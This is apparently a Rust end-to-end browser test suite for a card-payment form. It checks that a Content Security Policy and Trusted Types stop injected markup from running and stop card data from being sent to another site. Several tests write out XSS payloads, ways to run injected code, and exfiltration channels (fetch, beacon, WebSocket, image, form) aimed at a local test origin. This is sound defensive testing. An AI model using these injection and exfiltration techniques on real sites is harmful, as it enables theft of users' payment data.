//! What code or markup that gets into the page can do: neither run nor send anything away (T12,
//! T13).

use end2end::{
    BrowserTest, Card, OtherSite, Result, Setup, browser_test, expect, nothing_happens_for,
};
use serde_json::{Value, json};
use std::time::Duration;

const A_MOMENT: Duration = Duration::from_millis(700);

#[test]
fn t12_what_zuora_says_is_text_and_never_markup() {
    browser_test(Setup::default(), async |test| {
        let form = test.open_add_card().await?;
        let message =
            "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>";
        test.sandbox
            .fail(
                "create-payment-method",
                json!({"reason": {"code": 59_210_020, "message": message}}),
            )
            .await?;
        form.save_card(Card::VISA).await?;
        expect!(form.alert()).to_contain_text(message).await?;
        let images: u32 = test
            .page
            .evaluate("() => document.querySelectorAll('main img').length", None::<&()>)
            .await?;
        assert_eq!((images, test.page.title().await?.contains("owned")), (0, false));
        Ok(())
    });
}

/// Makes each attempt in the page. Gives those that had an effect, and how many the policy blocked.
async fn attempts(test: &BrowserTest, attempts: &[(&str, String)]) -> Result<(Vec<String>, u32)> {
    let tried = json!(attempts);
    let result: Value = test
        .page
        .evaluate(
            "async (attempts) => { \
                 let blocked = 0; \
                 document.addEventListener('securitypolicyviolation', () => blocked++); \
                 window.owned = ''; \
                 const done = []; \
                 for (const [name, code] of attempts) { \
                     try { await (await window.attempt[name]?.(code)); } catch {} \
                     await new Promise((resume) => setTimeout(resume, 60)); \
                     if (window.owned) done.push(name); \
                     window.owned = ''; \
                 } \
                 return [done, blocked]; }",
            Some(&tried),
        )
        .await?;
    let done =
        result[0].as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned);
    let blocked = result[1].as_u64().and_then(|count| u32::try_from(count).ok());
    Ok((done.collect(), blocked.ok_or("a count")?))
}

/// Ways to run code that injected markup or a mistake in the page could open. The harness's own
/// code runs outside the policy.
const RUN: &str = "window.attempt = { \
    inline: (code) => { const s = document.createElement('script'); s.append(code); document.body.append(s); }, \
    handler: (code) => { const p = document.createElement('p'); p.setAttribute('onclick', code); document.body.append(p); p.click(); }, \
    link: (code) => { const a = document.createElement('a'); a.setAttribute('href', 'javascript:' + code); document.body.append(a); a.click(); }, \
    markup: (code) => { document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"${code}\">`); }, \
    foreign: (url) => { const s = document.createElement('script'); s.setAttribute('src', url); document.body.append(s); }, \
    object: (url) => { const o = document.createElement('object'); o.setAttribute('data', url); document.body.append(o); }, \
    frame: (url) => { const f = document.createElement('iframe'); f.setAttribute('src', url); document.body.append(f); }, \
    base: (url) => { const b = document.createElement('base'); b.setAttribute('href', url); document.head.append(b); \
        if (document.baseURI.startsWith(url)) window.owned = 'yes'; b.remove(); }, \
    worker: (url) => { new Worker(url); }, \
    module: (code) => { const s = document.createElement('script'); s.type = 'module'; s.append(code); document.body.append(s); }, \
    copied: (code) => { const s = document.createElement('script'); s.nonce = document.querySelector('script').nonce; s.append(code); \
        document.body.append(s); }, \
    created: (code) => { const t = document.createElement('div'); t.innerHTML = `<script>${code}</script>`; document.body.append(t); }, \
    fragment: (code) => { document.body.append(document.createRange().createContextualFragment(`<script>${code}</script>`)); }, \
    framed: (code) => { document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc=\"<script>parent.${code}</script>\"></iframe>`); }, \
    data: (code) => import(`data:text/javascript,${code}`), \
    evaluated: (code) => { (0, eval)(code); }, \
    timed: (code) => { setTimeout(code); }, \
};";

#[test]
fn t12_injected_code_does_not_run() {
    browser_test(Setup::default(), async |test| {
        test.page.add_init_script(RUN).await?;
        test.open_add_card().await?;
        let other_site = OtherSite::with_page("window.owned = 'yes'".into()).await?;
        let code = "window.owned = 'yes'".to_owned();
        let mine = [
            "inline",
            "handler",
            "link",
            "markup",
            "module",
            "copied",
            "created",
            "fragment",
            "framed",
            "data",
            "evaluated",
            "timed",
        ];
        let mine: Vec<_> = mine.map(|name| (name, code.clone())).into();
        let theirs = ["foreign", "object", "frame", "base", "worker"]
            .map(|name| (name, format!("{}/", other_site.origin)));
        let all: Vec<_> = mine.into_iter().chain(theirs).collect();
        let (done, blocked) = attempts(test, &all).await?;
        assert_eq!(done, Vec::<String>::new());
        assert!(blocked >= 11, "{blocked} of {} were reported", all.len());
        assert_eq!(other_site.requests(), Vec::<String>::new());
        // The twin: where there is no such policy, the same attempts do run.
        test.page.goto(&other_site.origin, None).await?;
        let (done, _) = attempts(test, &all[..2]).await?;
        assert_eq!(done, ["inline", "handler"]);
        Ok(())
    });
}

/// Speculation rules make a browser request an address, with any data in it, and need no nonce.
#[test]
fn t12_t13_speculation_rules_carry_nothing_away() {
    browser_test(Setup::default(), async |test| {
        test.page.add_init_script(SPECULATE).await?;
        test.open_add_card().await?;
        let other_site = OtherSite::with_page(String::new()).await?;
        let url = format!("{}/?card", other_site.origin);
        let all = ["rules", "copied", "markup"].map(|name| (name, url.clone()));
        let (_, blocked) = attempts(test, &all).await?;
        nothing_happens_for(A_MOMENT).await;
        assert_eq!(other_site.requests(), Vec::<String>::new());
        assert!(blocked >= 2, "{blocked} of {} were reported", all.len());
        Ok(())
    });
}

const SPECULATE: &str = "const rules = (url) => JSON.stringify({ prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] }); \
    const speculate = (url, nonce) => { const s = document.createElement('script'); s.type = 'speculationrules'; s.nonce = nonce; \
        s.textContent = rules(url); document.head.append(s); }; \
    window.attempt = { \
    rules: (url) => speculate(url, ''), \
    copied: (url) => speculate(url, document.querySelector('script').nonce), \
    markup: (url) => { document.body.insertAdjacentHTML('beforeend', `<script type=\"speculationrules\">${rules(url)}</script>`); }, \
};";

/// Trusted Types: only the kind of markup that the page's own code renders is accepted.
#[test]
fn t12_markup_that_runs_or_leads_elsewhere_is_refused() {
    browser_test(Setup::default(), async |test| {
        test.open_add_card().await?;
        let refused = [
            "<script>x</script>",
            "<SCRIPT src=x>",
            "<iframe src=x>",
            "<p srcdoc=x>",
            "<object data=x>",
            "<embed src=x>",
            "<base href=x>",
            "<meta http-equiv=refresh content=0>",
            "<link rel=preload href=x>",
            "<form action=x>",
            "<svg onload=x>",
            "<img src=x onerror=x>",
            "<p\nonclick\t=x>",
            "<a href=javascript:x>",
        ];
        let accepted = [
            "<p class=\"notice\"><b>Card saved</b><!----></p>",
            "<button type=\"button\">On = off</button>",
        ];
        let pass = "(all) => all.filter((markup) => { try { document.createElement('div').innerHTML = markup; return true; } catch { return false; } })";
        let passed: Vec<String> = test.page.evaluate(pass, Some(&refused)).await?;
        assert_eq!(passed, Vec::<String>::new());
        let passed: Vec<String> = test.page.evaluate(pass, Some(&accepted)).await?;
        assert_eq!(passed, accepted);
        Ok(())
    });
}

/// Ways to send data to another site.
const SEND: &str = "window.attempt = { \
    fetch: (url) => fetch(url, { method: 'POST', body: 'card' }), \
    opaque: (url) => fetch(url, { method: 'POST', body: 'card', mode: 'no-cors' }), \
    beacon: (url) => { navigator.sendBeacon(url, 'card'); }, \
    xhr: (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('card'); }, \
    socket: (url) => { new WebSocket(url.replace('http', 'ws')); }, \
    events: (url) => { new EventSource(url); }, \
    image: (url) => { new Image().src = url; }, \
    style: (url) => { document.body.style.backgroundImage = `url(${url})`; }, \
    sheet: (url) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l); }, \
    prefetch: (url) => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l); }, \
    preload: (url) => { const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = url; document.head.append(l); }, \
    media: (url) => { const v = document.createElement('video'); v.src = url; v.load(); }, \
    form: (url) => { const f = document.createElement('form'); f.action = url; f.method = 'post'; document.body.append(f); f.submit(); }, \
};";

#[test]
fn t13_nothing_can_be_sent_to_anybody_else() {
    browser_test(Setup::default(), async |test| {
        test.page.add_init_script(SEND).await?;
        test.open_add_card().await?;
        let other_site = OtherSite::with_page(String::new()).await?;
        let names = [
            "fetch", "opaque", "beacon", "xhr", "socket", "events", "image", "style", "sheet",
            "prefetch", "preload", "media", "form",
        ];
        let all = names.map(|name| (name, format!("{}/collect", other_site.origin)));
        let (_, blocked) = attempts(test, &all).await?;
        nothing_happens_for(A_MOMENT).await;
        assert_eq!(other_site.requests(), Vec::<String>::new());
        assert!(blocked >= 11, "{blocked} of {} were reported", names.len());
        // The twin: from a page without the policy they do arrive.
        test.page.goto(&other_site.origin, None).await?;
        let before = other_site.requests().len();
        attempts(test, &all[..4]).await?;
        assert!(other_site.requests().len() >= before + 3);
        Ok(())
    });
}
